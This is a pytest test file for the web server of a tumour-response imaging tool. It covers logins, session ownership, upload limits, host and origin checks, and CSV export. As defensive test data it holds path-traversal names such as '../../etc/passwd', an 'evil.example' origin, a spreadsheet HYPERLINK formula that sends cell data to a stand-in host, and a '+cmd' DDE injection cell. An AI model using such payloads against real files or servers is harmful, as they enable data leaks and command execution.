"""The web page's server side without a browser: users and passwords, who may serve where, sessions
belong to their user, upload limits (type, size, count, path), reading an upload batch, the result
the page shows, and the ``web`` command's errors."""

from __future__ import annotations

import asyncio
import base64
import csv
import os
import stat
from pathlib import Path

import numpy as np
import pytest

pytest.importorskip("aiohttp", reason="the web extra (aiohttp) is not installed")

from TACEResponseLib.cli import main  # noqa: E402
from TACEResponseLib.core.errors import InputError  # noqa: E402
from TACEResponseLib.frontend.web import auth, uploads  # noqa: E402
from TACEResponseLib.frontend.web.launcher import Launcher, Session, WebOptions, check_serving  # noqa: E402


# --- users --------------------------------------------------------------------------------------
def test_passwords_are_salted_hashes_checked_exactly():
    first, second = auth.hash_password("s3cret horse"), auth.hash_password("s3cret horse")
    assert first != second and "s3cret" not in first  # salted, never the password
    assert auth.verify_password("s3cret horse", first) and auth.verify_password("s3cret horse", second)
    assert not auth.verify_password("s3cret hors", first)
    assert not auth.verify_password("s3cret horse", "plain$text")
    with pytest.raises(InputError, match="empty"):
        auth.hash_password("")


def test_users_file_is_private_and_checked(tmp_path):
    users = tmp_path / "users"
    auth.add_user(users, "alice", "pw-a")
    auth.add_user(users, "bob", "pw-b")
    auth.add_user(users, "alice", "pw-a2")  # replaced, not added twice
    assert stat.S_IMODE(users.stat().st_mode) == 0o600
    read = auth.read_users(users)
    assert sorted(read) == ["alice", "bob"] and auth.verify_password("pw-a2", read["alice"])
    users.write_text(users.read_text() + "carol=nohash\n")
    with pytest.raises(InputError, match="line 3"):
        auth.read_users(users)
    with pytest.raises(InputError, match="user name"):
        auth.add_user(tmp_path / "other", "bad name", "x")


def test_serving_a_network_needs_users(tmp_path):
    assert check_serving(WebOptions(host="127.0.0.1")) is None
    assert check_serving(WebOptions(host="::1")) is None
    with pytest.raises(InputError, match="anyone on the network"):
        check_serving(WebOptions(host="0.0.0.0"))
    with pytest.raises(InputError, match="anyone on the network"):
        check_serving(WebOptions(host="192.168.1.20"))
    users = auth.add_user(tmp_path / "users", "alice", "pw")
    with pytest.raises(InputError, match="without TLS would send passwords"):
        check_serving(WebOptions(host="0.0.0.0", users_file=users))
    assert list(check_serving(WebOptions(host="0.0.0.0", users_file=users, behind_tls_proxy=True))) == ["alice"]
    assert list(check_serving(WebOptions(host="127.0.0.1", users_file=users))) == ["alice"]
    with pytest.raises(InputError, match="go together"):
        check_serving(WebOptions(tls_cert=tmp_path / "cert.pem"))


def test_hosts_and_origins_a_launcher_accepts():
    """What a browser, a reverse proxy and a DNS-rebinding page send (proxy: nginx's ``$http_host`` or ``$host``)."""
    from types import SimpleNamespace

    from TACEResponseLib.frontend.web.guards import HostRules

    rules = HostRules.for_address("127.0.0.1", ["tace.example.org"], trust_forwarded=True)

    def problems(host: str, origin: str | None = None, forwarded: str | None = None):
        headers = {"Host": host, **({"Origin": origin} if origin else {}),
                   **({"X-Forwarded-Host": forwarded} if forwarded else {})}
        request = SimpleNamespace(headers=headers)
        return rules.host_problem(request), rules.origin_problem(request)

    assert problems("127.0.0.1:8080", "http://127.0.0.1:8080") == (None, None)
    assert problems("localhost:8080") == (None, None)  # no Origin: not a browser's cross-site request
    assert problems("127.0.0.1:8080", None, "tace.example.org:8443") == (None, None)
    assert problems("127.0.0.1:8080", "https://tace.example.org:8443", "tace.example.org") == (None, None)
    assert problems("rebound.example:8080", "http://rebound.example:8080")[0] is not None
    assert problems("127.0.0.1:8080", "http://evil.example")[1] is not None
    assert problems("127.0.0.1:8080", "http://127.0.0.1:9999")[1] is not None  # another port named: another origin
    assert problems("127.0.0.1:8080", "null")[1] is not None


# --- the launcher over HTTP (no session process: sessions are put in by hand) ----------------------
def _basic(user: str, password: str) -> dict:
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()}


def _run(coroutine):
    return asyncio.run(coroutine)


def _launcher(tmp_path, **options) -> Launcher:
    users = auth.add_user(tmp_path / "users", "alice", "pw-a")
    auth.add_user(users, "bob", "pw-b")
    limits = uploads.UploadLimits(max_file_bytes=1000, max_session_bytes=1500, max_files=3)
    return Launcher(WebOptions(host="127.0.0.1", users_file=users, limits=limits, work_root=tmp_path, **options))


def test_login_cookie_and_sessions_of_other_users(tmp_path):
    from aiohttp.test_utils import TestClient, TestServer

    launcher = _launcher(tmp_path)
    folder = launcher.root / ("a" * 32)
    folder.mkdir()
    launcher.sessions["a" * 32] = Session("a" * 32, "alice", folder, key="alice-session-key")

    async def scenario():
        async with TestClient(TestServer(launcher.app)) as client:
            anonymous = await client.get("/s/" + "a" * 32 + "/")
            assert anonymous.status == 401 and "Basic" in anonymous.headers["WWW-Authenticate"]
            wrong = await client.post("/s/" + "a" * 32 + "/paraview/", headers=_basic("alice", "pw-b"))
            assert wrong.status == 401
            bob = await client.post("/s/" + "a" * 32 + "/paraview/", headers=_basic("bob", "pw-b"))
            assert bob.status == 404  # alice's session does not exist for bob
            client.session.cookie_jar.clear()
            alice = await client.post("/s/" + "a" * 32 + "/paraview/", headers=_basic("alice", "pw-a"))
            assert alice.status == 200
            info = await alice.json()
            assert info["secret"] == "alice-session-key" and info["sessionURL"].endswith("/s/" + "a" * 32 + "/ws")
            again = await client.post("/s/" + "a" * 32 + "/paraview/")  # the cookie alone logs alice in
            assert again.status == 200
            gone = await client.post("/s/" + "b" * 32 + "/paraview/")
            assert gone.status == 404

    _run(scenario())
    assert not launcher.root.exists(), "the launcher's folder must go when it stops"


def test_uploads_are_checked_while_streaming(tmp_path):
    from aiohttp.test_utils import TestClient, TestServer

    launcher = _launcher(tmp_path)
    sid = "c" * 32
    folder = launcher.root / sid
    folder.mkdir()
    launcher.sessions[sid] = Session(sid, "alice", folder, key="k")
    dicom = bytes(128) + b"DICM" + bytes(300)

    async def post(client, name, body, kind="image"):
        response = await client.post(f"/s/{sid}/upload", params={"kind": kind, "batch": "b1", "name": name},
                                     data=body, headers=_basic("alice", "pw-a"))
        return response.status, await response.json()

    async def scenario():
        async with TestClient(TestServer(launcher.app)) as client:
            assert (await post(client, "notes.txt", b"x" * 200))[0] == 415
            assert (await post(client, "tumour.seg.nrrd", b"x" * 200, kind="other"))[0] == 400
            status, body = await post(client, "big.nrrd", b"x" * 1001)
            assert status == 413 and "allowed per file" in body["error"]
            status, body = await post(client, "../../escape.nrrd", b"x" * 500)
            assert status == 200 and body["name"] == "escape.nrrd"
            status, body = await post(client, "IM0001", dicom)  # a DICOM file without a suffix
            assert status == 200
            status, body = await post(client, "more.nii.gz", b"x" * 600)
            assert status == 413 and "would pass" in body["error"]  # 500 + 436 + 600 > 1500 per session
            status, body = await post(client, "small.nii", b"x" * 10)
            assert status == 200
            status, body = await post(client, "fourth.nii", b"x" * 10)
            assert status == 413 and "more than 3 files" in body["error"]

    _run(scenario())


def test_session_folder_is_removed_when_its_process_ends(tmp_path):
    launcher = _launcher(tmp_path)

    async def scenario():
        sid = "d" * 32
        folder = launcher.root / sid
        (folder / "uploads").mkdir(parents=True)
        (folder / "uploads" / "ct.nrrd").write_bytes(b"x")
        session = Session(sid, "alice", folder, key="k")
        session.process = await asyncio.create_subprocess_exec("sleep", "30", start_new_session=True)
        launcher.sessions[sid] = session
        await launcher.end_session(session)
        assert session.process.returncode is not None and not folder.exists() and sid not in launcher.sessions

    _run(scenario())


# --- uploads read by the session --------------------------------------------------------------------
def test_upload_rules_and_names():
    assert uploads.upload_problem("ct.nii.gz", "image") is None
    assert uploads.upload_problem("tumour.seg.nrrd", "segmentation") is None
    assert "not an accepted image" in uploads.upload_problem("report.pdf", "image")
    assert uploads.upload_problem("IM0001", "image", bytes(128) + b"DICM") is None
    assert uploads.upload_problem("IM0001", "segmentation", bytes(128) + b"DICM") is None  # a DICOM SEG
    assert uploads.upload_problem("seg.dcm", "segmentation") is None
    assert "not an accepted segmentation" in uploads.upload_problem("notes.txt", "segmentation", b"plain text")
    assert uploads.stored_name("../../etc/passwd") == "passwd"
    assert uploads.stored_name("C:\\scans\\my ct.nii.gz") == "my_ct.nii.gz"
    assert uploads.stored_name(".hidden.nrrd") == "hidden.nrrd"


def test_upload_batch_reads_volumes_and_refuses_mixtures(tmp_path, axial_case):
    from TACEResponseLib.imaging.volume_io import write_volume

    batch = tmp_path / "batch"
    batch.mkdir()
    write_volume(axial_case.phases["arterial"], batch / "arterial.nrrd")
    write_volume(axial_case.phases["portal"], batch / "portal.nii.gz")
    volumes = uploads.read_upload_batch(batch)
    assert [v.name for v in volumes] == ["arterial", "portal"]
    assert np.allclose(volumes[0].ijk_to_ras, axial_case.phases["arterial"].ijk_to_ras)
    (batch / "IM0001").write_bytes(bytes(128) + b"DICM" + bytes(10))
    with pytest.raises(InputError, match="DICOM files and other files"):
        uploads.read_upload_batch(batch)
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(InputError, match="no file"):
        uploads.read_upload_batch(empty)


def test_session_settings_come_on_standard_input_and_set_the_web_reading_rules(tmp_path, axial_case):
    """What a session process does first (session_setup): settings from stdin (a key may begin with "-"),
    uploads read as self-contained files under the per-image and per-session decoding limits."""
    import argparse
    import io
    import json

    from TACEResponseLib.frontend.web import session_setup
    from TACEResponseLib.imaging import image_headers
    from TACEResponseLib.imaging.volume_io import read_volume, write_volume

    volume = axial_case.phases["arterial"]  # 2.25 MB decoded
    limits = uploads.UploadLimits(max_image_bytes=3 * 2**20, max_decoded_bytes=8 * 2**20)
    folder = tmp_path / "session"
    argv = ["session.py", "--port", "0", session_setup.SETTINGS_FLAG]
    saved = image_headers._DEFAULT
    try:
        session_setup.prepare_session_process(argv, io.StringIO(session_setup.settings_line(folder, "-key", limits)))
        parser = argparse.ArgumentParser()
        for name in ("--port", "--session-dir", "--authKey", "--upload-limits"):
            parser.add_argument(name)
        args = parser.parse_args(argv[1:])
        assert (args.session_dir, args.authKey) == (str(folder), "-key")
        assert json.loads(args.upload_limits)["max_file_bytes"] == limits.max_file_bytes
        assert "--logout-link" not in argv  # no users, no log-out on the page
        with_users = ["session.py", session_setup.SETTINGS_FLAG]
        session_setup.prepare_session_process(with_users, io.StringIO(session_setup.settings_line(folder, "k", limits,
                                                                                                  logout=True)))
        assert "--logout-link" in with_users
        # a file of the command line (--image): a detached header with its data beside it is read, and held
        header = write_volume(volume, tmp_path / "d.nhdr")
        assert read_volume(header).array.shape == volume.array.shape
        budget = image_headers.current_rules().budget
        assert budget.held_bytes == volume.array.nbytes
        batch = folder / "uploads" / "image" / "b1"
        batch.mkdir(parents=True)
        for name in ("a.nrrd", "b.nii.gz", "c.mha", "e.nii"):
            write_volume(volume, batch / name)
        with pytest.raises(InputError) as error:
            uploads.read_upload_batch(batch)  # 4 × 2.25 MB > 8 MB per session
        assert "allowed per session" in str(error.value) and str(folder) not in str(error.value)
        (batch / "c.mha").unlink()
        assert len(uploads.read_upload_batch(batch)) == 3  # they replace the start case: 6.75 MB held
        assert budget.held_bytes == 3 * volume.array.nbytes
        (batch / "d.nhdr").write_bytes(header.read_bytes())
        with pytest.raises(InputError, match="d.nhdr: a detached header"):
            uploads.read_upload_batch(batch)
    finally:
        image_headers.set_default_rules(saved)
    # what the page may show of an error: no place on the server
    shown = session_setup.client_text(f"{folder}/runs/r1/ct.nrrd: unreadable; bundle /srv/models/x/: missing; "
                                      "/etc/passwd; and/or", folder)
    assert shown == "runs/r1/ct.nrrd: unreadable; bundle x: missing; passwd; and/or"


# --- what the page shows ----------------------------------------------------------------------------
def test_result_page_and_csv_download(tmp_path):
    from TACEResponseLib.frontend.web.results import download_file, result_page
    from TACEResponseLib.prediction.results import PredictionResult, TumourPrediction

    classes = ["CR", "PR", "SD", "PD"]
    tumours = [TumourPrediction("Segment_1", "Tumour", classes, [0.1, 0.6, 0.2, 0.1], "PR", 0.7, [], [], volume_ml=21.4),
               TumourPrediction("Segment_1", "Tumour", classes, [0.05, 0.15, 0.2, 0.6], "PD", 0.2, [], [], island=2,
                                volume_ml=3.2)]
    result = PredictionResult("case7", "demo", "0" * 64, True, "SYNTHETIC demo model", "cpu", tumours)
    shown = result_page(result)
    assert [t["headline"] for t in shown["tumours"]] == ["PR", "PD"]
    assert [t["label"] for t in shown["tumours"]] == ["Tumour", "Tumour #2"]
    bars = {b["name"]: (b["percent"], b["predicted"]) for b in shown["tumours"][1]["bars"]}
    assert bars == {"CR": (5, False), "PR": (15, False), "SD": (20, False), "PD": (60, True)}
    assert shown["synthetic"] == "SYNTHETIC demo model" and len(shown["rows"]) == 2
    assert [(r["short"], r["cls"], r["percent"], r["volume"]) for r in shown["rows"]] == \
        [("Tumour", "PR", 60, "21.4"), ("#2", "PD", 60, "3.2")]
    result.save_json(tmp_path / "result.json")
    path = download_file("csv", result, tmp_path)
    with open(path, newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["predicted"] for r in rows] == ["PR", "PD"] and rows[1]["tumour"] == "Tumour #2"
    assert download_file("json", result, tmp_path).read_text() == (tmp_path / "result.json").read_text()


def test_csv_download_neutralises_cells_a_spreadsheet_would_run(tmp_path):
    from TACEResponseLib.core.files import spreadsheet_safe
    from TACEResponseLib.frontend.web.results import download_file
    from TACEResponseLib.prediction.results import PredictionResult, TumourPrediction

    classes = ["CR", "PR", "SD", "PD"]
    # a case named after an uploaded file, a segment named in an uploaded .seg.nrrd
    tumour = TumourPrediction("Segment_1", "@SUM(A1:A9)", classes, [0.1, 0.6, 0.2, 0.1], "PR", 0.7, [], [],
                              volume_ml=21.4)
    result = PredictionResult('=HYPERLINK("http://evil.example/?"&A1,"open")', "demo", "0" * 64, True, "SYNTHETIC",
                              "cpu", [tumour])
    result.save_json(tmp_path / "result.json")
    with open(download_file("csv", result, tmp_path), newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells, "empty CSV"
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
                 or (cell.startswith("-") and spreadsheet_safe(cell) != cell)]
    assert not dangerous, dangerous
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells and "'@SUM(A1:A9)" in cells
    assert [spreadsheet_safe(v) for v in ("-1.5", -2, "+cmd|' /C calc'!A0", "-x", "text")] == \
        ["-1.5", -2, "'+cmd|' /C calc'!A0", "'-x", "text"]


def test_result_page_shows_the_patient_and_greys_tumours_not_assessed():
    from TACEResponseLib.frontend.web.results import result_page
    from TACEResponseLib.prediction.results import (
        NotAssessableTumour,
        PatientPrediction,
        PredictionResult,
        TumourPrediction,
    )

    classes = ["CR", "PR", "SD", "PD"]
    tumour = TumourPrediction("Segment_1", "Tumour", classes, [0.1, 0.6, 0.2, 0.1], "PR", 0.7, [], [], volume_ml=21.4)
    speck = NotAssessableTumour("Segment_1", "Tumour", "too_small", "0.02 ml, below the 0.1 ml minimum", island=3,
                                volume_ml=0.02)
    patient = PatientPrediction("target_lesions", "the largest tumour", ["Tumour"], [1.0], classes,
                                [0.1, 0.6, 0.2, 0.1], "PR", 0.7, 3)
    result = PredictionResult("case8", "demo", "0" * 64, False, "", "cpu", [tumour], not_assessable=[speck],
                              patient=patient)
    shown = result_page(result)
    assert shown["patient_text"].startswith("Patient: PR") and "Tumour" in shown["patient_text"]
    assert shown["summary"]["headline"] == "PR" and shown["summary"]["scope"].startswith("Patient (1 of 1")
    assert [row["label"] for row in shown["rows"]] == ["Tumour"]  # the speck is not a table row: it is folded
    assert shown["skipped"] == [{"key": "s0", "label": "Tumour #3", "volume": "0.02",
                                 "reason": "0.02 ml, below the 0.1 ml minimum"}]


# --- the command ------------------------------------------------------------------------------------
def test_web_command_says_what_is_missing(monkeypatch, capsys):
    from TACEResponseLib.cli import web_command

    monkeypatch.setattr(web_command.importlib.util, "find_spec",
                        lambda name: None if name == "trame_slicer" else object())
    assert main(["web"]) == 2
    error = capsys.readouterr().err
    assert "needs the web extra" in error and "trame-slicer" in error and "TACEResponse[web]" in error


def test_web_command_refuses_anonymous_network_serving_and_missing_files(capsys, tmp_path):
    assert main(["web", "--host", "0.0.0.0", "--port", "0"]) == 2
    assert "anyone on the network" in capsys.readouterr().err
    assert main(["web", "--image", str(tmp_path / "missing_ct.nrrd")]) == 2
    assert "missing_ct.nrrd: file or folder does not exist" in capsys.readouterr().err


def test_web_command_on_a_port_in_use_is_one_error(capsys, tmp_path, monkeypatch):
    import socket

    monkeypatch.setenv("TMPDIR", str(tmp_path))
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        assert main(["web", "--port", str(port)]) == 2
    error = capsys.readouterr().err.strip().splitlines()
    assert len(error) == 1 and f"cannot listen on 127.0.0.1:{port}" in error[0], error


def test_web_command_adds_users_from_standard_input(tmp_path, monkeypatch, capsys):
    import io

    monkeypatch.setattr("sys.stdin", io.StringIO("correct horse\n"))
    assert main(["web", "--users", str(tmp_path / "users"), "--add-user", "alice"]) == 0
    assert auth.verify_password("correct horse", auth.read_users(tmp_path / "users")["alice"])
    assert main(["web", "--add-user", "bob"]) == 2
    assert "--add-user needs --users" in capsys.readouterr().err
    assert os.path.exists(tmp_path / "users")
    assert Path(tmp_path / "users").stat().st_size > 0


# --- the MRML helpers the page uses -------------------------------------------------------------------
def test_jump_slices_centres_every_slice_view_and_window_level_is_fixed(mrml, axial_case):
    from TACEResponseLib.frontend.mrml import jump_slices, set_window_level, volume_to_node

    scene = mrml.scene
    nodes = []
    for name, orientation in (("Red", "Axial"), ("Yellow", "Sagittal"), ("Green", "Coronal")):
        node = scene.AddNewNodeByClass("vtkMRMLSliceNode", name)
        node.SetOrientation(orientation)
        nodes.append(node)
    point = np.array([12.5, -30.25, 41.0])
    jump_slices(scene, point)
    for node in nodes:
        matrix = node.GetSliceToRAS()
        assert np.allclose([matrix.GetElement(r, 3) for r in range(3)], point)
    volume = volume_to_node(axial_case.phases["arterial"], scene, "ct")
    volume.GetDisplayNode().AutoWindowLevelOn()
    set_window_level(volume, 400, 40)
    display = volume.GetDisplayNode()
    assert not display.GetAutoWindowLevel() and (display.GetWindow(), display.GetLevel()) == (400, 40)
